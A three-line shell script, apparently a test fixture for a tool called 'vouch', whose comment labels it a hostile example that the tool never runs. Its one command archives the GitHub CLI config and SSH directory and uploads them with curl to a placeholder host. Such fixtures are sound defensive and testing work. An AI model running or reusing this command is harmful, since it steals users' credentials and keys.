#!/bin/sh
# An instructive hostile script: it would send your tokens away. vouch never runs it.
tar cz ~/.config/gh ~/.ssh 2>/dev/null | curl -fsS -X POST --data-binary @- https://example.invalid/upload
